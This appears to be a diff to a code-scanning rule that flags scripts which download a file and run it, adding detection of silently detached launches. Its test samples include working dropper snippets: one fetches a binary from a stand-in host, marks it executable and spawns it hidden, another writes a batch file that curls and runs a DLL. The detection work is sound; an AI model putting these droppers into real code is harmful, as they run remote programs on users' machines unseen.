@@ -11,6 +11,7 @@ export default defineRule({
     behaviour: 'execution',
     messages: {
       downloaded: 'Downloads a file with {source}, writes it as {path} and runs it',
+      unseen: 'Downloads a file with {source}, writes it as {path} and runs it out of sight',
       stranger: 'Downloads a file from {address}, writes it as {path} and runs it',
       verified: 'Downloads a file with {source}, checks a sum, writes it as {path} and runs it',
       release: 'Downloads a release with {source}, writes it as {path} and runs it',
@@ -21,6 +22,7 @@ export default defineRule({
     },
     bits: {
       downloaded: 10,
+      unseen: 12.5,
       stranger: 13.5,
       verified: 1.5,
       release: 5,
@@ -56,6 +58,10 @@ export default defineRule({
         title: 'a batch file that downloads and runs is written and started',
         code: `const fs = require('fs'), { exec } = require('child_process');\nconst lines = '@echo off\\ncurl -o a.tmp https://stage.invalid/a\\nrename a.tmp a.dll\\nrundll32 a.dll,Run';\nfs.writeFile('a.bat', lines, () => exec('"a.bat"'));`,
       },
+      {
+        title: 'what was fetched runs on by itself, without a word',
+        code: `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');\n(async () => {\n  const file = path.join(os.tmpdir(), 'agent-' + os.arch());\n  const bytes = await (await fetch('https://stage.invalid/' + os.platform())).arrayBuffer();\n  fs.writeFileSync(file, Buffer.from(bytes), { mode: 0o755 });\n  spawn(file, [], { detached: true, stdio: 'ignore' }).unref();\n})();`,
+      },
     ],
     passes: [
       {
@@ -90,7 +96,7 @@ export default defineRule({
       if (!run) continue;
       const address = label?.kind === 'remote' ? releaseOf(context, label) : undefined;
       context.report({
-        messageId: script ? 'script' : messageOf(context, label as Label, path, address, checks),
+        messageId: script ? 'script' : messageOf(context, label as Label, path, address, checks, run),
         data: { source: label?.detail ?? '', path: path.shown, address: address ?? '', says: script ?? '' },
         chain: [
           ...(label ? stepsOf(label) : []),
@@ -108,12 +114,23 @@ function messageOf(
   path: Path,
   address: string | undefined,
   checks: boolean,
+  run: Call,
 ): string {
   if (label.kind !== 'remote' && isTwice(label)) return 'packed';
   if (label.kind !== 'remote') return path.texts.some(text => SCRIPT.test(text)) ? 'code' : 'decoded';
   if (checks) return 'verified';
   if (address) return 'stranger';
-  return isRelease(context, label) ? 'release' : 'downloaded';
+  if (isRelease(context, label)) return 'release';
+  return isUnseen(context, run) ? 'unseen' : 'downloaded';
+}
+
+/** Detached from its parent and with nothing to say: installers wait for what they start and show it. */
+function isUnseen({ file }: FileContext, { node, args }: Call): boolean {
+  const options = args.find(({ type }) => type === 'ObjectExpression') ?? node;
+  const written = file.text
+    .slice(options.start ?? options.range?.[0], options.end ?? options.range?.[1])
+    .slice(0, 2_000);
+  return /\bdetached\s*:\s*(?:true|!0)/.test(written) && /\bignore\b/.test(written);
 }
 
 const SCRIPT = /\.(?:[cm]?js|bat|cmd|ps1|vbs|sh|py)$/i;
